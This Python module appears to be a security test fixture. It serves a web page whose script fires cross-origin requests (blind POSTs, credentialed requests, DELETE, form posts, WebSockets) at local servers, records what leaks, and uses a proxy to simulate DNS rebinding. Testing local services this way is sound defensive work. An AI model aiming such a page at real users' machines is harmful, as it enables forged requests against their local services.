"""A web page that tries everything on servers of this machine that a page can, and the server that it comes from.

The server is a proxy as well.  Given to a browser, it stands for DNS rebinding: the page comes from a name and a port,
and then the same name and port lead to another server.
"""

from __future__ import annotations

import http.client
import json
import threading
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Self
from urllib.parse import urlsplit

# Each entry of the report: what was tried, and what the page learnt of it; null if nothing.
PAGE = """<!doctype html><title>Kittens</title><body><script>
const targets = TARGETS, report = [];
const quietly = async (name, attempt) => {
  let learnt = null;
  // What waits for an answer has been let in, or so it seems.
  const waiting = new Promise(resolve => setTimeout(resolve, 10000, "waiting"));
  try { learnt = await Promise.race([attempt(), waiting]); } catch (error) {}
  report.push([name, learnt]);
};
const settled = element => new Promise(resolve => { element.onload = () => resolve(true);
  element.onerror = () => resolve(null); document.body.append(element); });
const element = (name, attributes) => Object.assign(document.createElement(name), attributes);
const form = target => new Promise(resolve => {
  const frame = element("iframe", {name: "f" + Math.random()});
  document.body.append(frame);
  const posted = element("form", {method: "POST", action: target.url, target: frame.name, enctype: target.encoding});
  for (const [name, value] of Object.entries(target.fields)) posted.append(element("input", {name, value}));
  document.body.append(posted);
  frame.onload = () => { try { resolve(frame.contentDocument.body.innerText || null); }
    catch (error) { resolve(null); } };
  posted.submit();
});
const socket = url => new Promise(resolve => {
  const opened = new WebSocket(url.replace("http", "ws"));
  opened.onopen = () => resolve(true);
  opened.onerror = () => resolve(null);
});
const blind = {method: "POST", mode: "no-cors"};
const read = async (url, options) => { const answer = await fetch(url, options);
  return answer.status ? answer.status : null; };
(async () => {
  for (const target of targets) {
    const url = target.url, body = new URLSearchParams(target.fields).toString();
    navigator.sendBeacon(url, new Blob([body], {type: "text/plain"}));
    for (const type of ["text/plain", "application/x-www-form-urlencoded"])
      await quietly("post " + type, () => read(url, {...blind, headers: {"Content-Type": type}, body}));
    await quietly("credentials", () => read(url, {...blind, credentials: "include", body}));
    await quietly("cors get", () => read(url));
    await quietly("cors post", () => read(url, {method: "POST", headers: {"Content-Type": "application/json"}, body}));
    await quietly("delete", () => read(url, {method: "DELETE"}));
    await quietly("form", () => form(target));
    await quietly("image", () => settled(element("img", {src: url})));
    await quietly("script", () => settled(element("script", {src: url})));
    await quietly("style", () => settled(element("link", {rel: "stylesheet", href: url})));
    await quietly("socket", () => socket(url));
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
})();
</script>"""


@dataclass
class Attacker:
    """Serves the page under any name, and forwards what a browser asks of others to ``port``."""

    targets: list[dict[str, Any]]
    port: int = 0
    report: list[tuple[str, Any]] = field(default_factory=list)
    done: threading.Event = field(default_factory=threading.Event)
    # What came to a target that the server is itself: what the page really sends.
    received: list[tuple[str, str]] = field(default_factory=list)

    def __enter__(self) -> Self:
        self._http = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self._http.daemon_threads = True
        self._thread = threading.Thread(target=self._http.serve_forever, kwargs={"poll_interval": 0.01})
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._http.shutdown()
        self._thread.join()
        self._http.server_close()

    @property
    def own_port(self) -> int:
        return self._http.server_port

    def _handler(attacker) -> type[BaseHTTPRequestHandler]:
        class Handler(BaseHTTPRequestHandler):
            def handle_any(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                path = urlsplit(self.path).path
                if path == "/page":
                    self.reply(200, PAGE.replace("TARGETS", json.dumps(attacker.targets)).encode(), "text/html")
                elif path == "/report":
                    attacker.report = [(name, learnt) for name, learnt in json.loads(body)]
                    self.reply(200, b"", "text/plain")
                    attacker.done.set()
                elif self.path.startswith("http://") and attacker.port:
                    self.forward(body)
                else:
                    attacker.received.append((self.command, path))
                    self.reply(200, b"1", "text/plain")

            do_GET = do_POST = do_PUT = do_DELETE = do_OPTIONS = handle_any

            def do_CONNECT(self) -> None:
                self.reply(502, b"", "text/plain")

            def forward(self, body: bytes) -> None:
                parts = urlsplit(self.path)
                connection = http.client.HTTPConnection("127.0.0.1", attacker.port, timeout=30)
                path = parts.path + (f"?{parts.query}" if parts.query else "")
                connection.putrequest(self.command, path, skip_host=True, skip_accept_encoding=True)
                for name, value in self.headers.items():
                    if not name.lower().startswith("proxy-"):
                        connection.putheader(name, value)
                connection.endheaders(body or None)
                answer = connection.getresponse()
                self.reply(answer.status, answer.read(), answer.headers.get("Content-Type", "text/plain"))
                connection.close()

            def reply(self, status: int, content: bytes, kind: str) -> None:
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            def log_message(self, *_: object) -> None:
                pass

        return Handler
